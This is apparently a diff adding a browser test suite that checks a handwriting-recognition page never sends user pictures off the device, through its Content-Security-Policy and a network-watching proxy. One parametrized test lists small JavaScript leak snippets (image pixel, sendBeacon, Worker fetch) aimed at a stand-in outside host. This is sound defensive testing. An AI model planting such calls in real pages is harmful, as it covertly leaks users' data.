@@ -1,0 +1,71 @@
+"""No picture leaves the device: the page cannot, and the tests would notice."""
+
+import re
+
+import pytest
+
+from tests.browser.visitor import file
+from tests.handwriting import encode, write
+
+POLICY = {
+    "default-src": "'none'",
+    "connect-src": "'self'",
+    "base-uri": "'none'",
+    "form-action": "'none'",
+}
+
+
+def test_the_page_s_policy_keeps_everything_at_its_origin(settled):
+    policy = settled.page.locator("meta[http-equiv=Content-Security-Policy]").get_attribute(
+        "content"
+    )
+    assert policy
+    parts = dict(part.strip().split(" ", 1) for part in policy.strip("; ").split(";"))
+    assert POLICY.items() <= parts.items()
+    assert not re.search(r"https?:|\*|ws:", policy)
+
+
+def test_the_browser_refuses_what_the_policy_forbids(visit):
+    visitor = visit().open().until_ready()
+    visitor.tolerated = None  # the refusal is what is wanted here
+    outcome = visitor.page.evaluate(
+        "fetch('http://elsewhere.invalid/').then(() => 'sent', (error) => error.name)"
+    )
+    assert outcome == "TypeError"
+    visitor.take_notes()
+
+
+def test_nothing_is_sent_while_a_picture_is_read(visit):
+    visitor = visit().open().until_ready()
+    sent = []
+    visitor.page.context.on(
+        "request", lambda request: sent.append((request.method, request.url, request.post_data))
+    )
+    visitor.pick(file("private.png", encode(write(7))))
+    assert visitor.card("private.png").answered().digit == "7"
+    assert not [each for each in sent if not each[1].startswith(("blob:", "data:"))]
+
+
+@pytest.mark.parametrize(
+    "leak",
+    [
+        "new Image().src = 'http://elsewhere.invalid/pixel'",
+        "navigator.sendBeacon('http://elsewhere.invalid/beacon', 'x')",
+        """new Worker(URL.createObjectURL(new Blob(
+             ["fetch('http://elsewhere.invalid/worker', {mode: 'no-cors'}).catch(() => 0)"])))""",
+    ],
+    ids=["image", "beacon", "worker"],
+)
+def test_the_guard_notices_what_leaves(visit, outside, server, leak):
+    """On a page without a policy the proxy that stands outside has to see each way of leaving."""
+    visitor = visit(server.url + "style.css")
+    visitor.tolerated = None
+    visitor.open()
+    visitor.page.evaluate(f"() => {{ {leak}; }}")
+    for _ in range(100):
+        if outside.asked:
+            break
+        visitor.page.wait_for_timeout(50)
+    assert any("elsewhere.invalid" in line for line in outside.asked)
+    visitor.take_notes()
+    outside.asked.clear()
